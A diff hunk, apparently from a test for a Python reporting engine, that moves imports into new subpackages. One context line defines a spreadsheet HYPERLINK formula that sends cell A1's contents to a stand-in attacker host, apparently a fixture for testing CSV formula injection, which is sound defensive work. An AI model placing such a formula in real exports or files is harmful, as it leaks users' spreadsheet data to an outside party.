@@ -19,13 +19,14 @@ from PIL import Image
 import nightly_data as nd
 from clirun import VN_PACK
 from rrr_engine import __version__
-from rrr_engine.audit import verify_chain
+from rrr_engine.store.audit import verify_chain
 from rrr_engine.engine import Engine
-from rrr_engine.locked_periods import RestatementRow, restatement_csv
-from rrr_engine.nightly import NightlyJob
-from rrr_engine.report_chart import chart_figure, tick_labels
-from rrr_engine.reports import ChartSeries, Col, ReportTable, csv_text
-from rrr_engine.storage import Storage
+from rrr_engine.governance.submissions import RestatementRow, restatement_csv
+from rrr_engine.jobs.nightly import NightlyJob
+from rrr_engine.reports.chart import chart_figure, tick_labels
+from rrr_engine.reports.model import ChartSeries, Col, ReportTable
+from rrr_engine.reports.period import csv_text
+from rrr_engine.store.database import Storage
 
 START, END = dt.date(2025, 8, 1), dt.date(2025, 10, 2)
 FORMULA = '=HYPERLINK("http://attacker.test/?x="&A1,"click")'
